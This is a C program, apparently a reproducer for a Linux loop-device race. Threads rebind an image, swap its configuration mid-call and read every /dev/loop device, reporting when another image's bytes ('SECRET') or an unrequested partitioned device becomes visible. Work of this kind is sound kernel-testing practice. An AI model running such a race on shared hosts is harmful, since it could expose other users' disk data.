/* Loop devices, bound and read by two threads while others on the host bind theirs.
 *
 *   loop_racer TRIES IMAGE
 *
 * One thread binds IMAGE (which begins with OWN) to a free device again and again, with a configuration that
 * another one exchanges for one that wants partitions; a third one opens all devices, keeps them, and reads.
 * Prints what nobody may see: another image's bytes (SECRET), a device with partitions. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/loop.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

enum { DEVICES = 8, KEPT = 3 };
static struct loop_config shared, both[2];
static atomic_int over, seen;

static void *exchange(void *unused)
{
    (void)unused;
    for (unsigned i = 0; !over; i++)
        memcpy(&shared, &both[i & 1], sizeof shared);
    return NULL;
}

static void look(int fd)
{
    char text[8] = {0};
    if (pread(fd, text, 6, 0) == 6 && strcmp(text, "SECRET") == 0)
        printf("won: another image\n");
    seen += text[0] == 'O';
}

static void *reads(void *unused)
{
    int fds[DEVICES][KEPT];
    (void)unused;
    memset(fds, -1, sizeof fds);
    for (unsigned i = 0; !over; i++) {
        unsigned n = i % DEVICES, k = i / DEVICES % KEPT;
        char name[32];
        snprintf(name, sizeof name, "/dev/loop%u", n);
        if (fds[n][k] >= 0)
            close(fds[n][k]);
        fds[n][k] = open(name, O_RDONLY);
        for (int each = 0; each < KEPT; each++)
            look(fds[n][each]);
    }
    return NULL;
}

int main(int count, char **v)
{
    if (count != 3)
        return 2;
    int control = open("/dev/loop-control", O_RDWR), image = open(v[2], O_RDWR), made = 0;
    if (control < 0 || image < 0)
        return 3;
    both[0].fd = both[1].fd = (unsigned)image;
    both[0].info.lo_flags = LO_FLAGS_AUTOCLEAR;
    both[1].info.lo_flags = LO_FLAGS_AUTOCLEAR | LO_FLAGS_PARTSCAN;
    shared = both[0];
    pthread_t others[2];
    pthread_create(&others[0], NULL, exchange, NULL);
    pthread_create(&others[1], NULL, reads, NULL);
    int tries = atoi(v[1]);
    for (int i = 0; i <= tries; i++) {
        if (i == tries) { /* alone, so that it is seen that any are bound */
            over = 1;
            pthread_join(others[0], NULL);
            pthread_join(others[1], NULL);
            shared = both[0];
        }
        for (int again = 0; again < 100; again++) {
            char name[32];
            struct loop_info64 info;
            snprintf(name, sizeof name, "/dev/loop%d", ioctl(control, LOOP_CTL_GET_FREE));
            int fd = open(name, O_RDWR);
            int bound = ioctl(fd, LOOP_CONFIGURE, &shared) == 0;
            look(fd);
            if (bound) {
                made++;
                if (ioctl(fd, LOOP_GET_STATUS64, &info) == 0 && info.lo_flags & LO_FLAGS_PARTSCAN)
                    printf("won: partitions\n");
            }
            close(fd);
            if (bound || i < tries)
                break; /* else somebody else took it meanwhile */
        }
    }
    printf("made %d seen %d\n", made, seen);
    return 0;
}
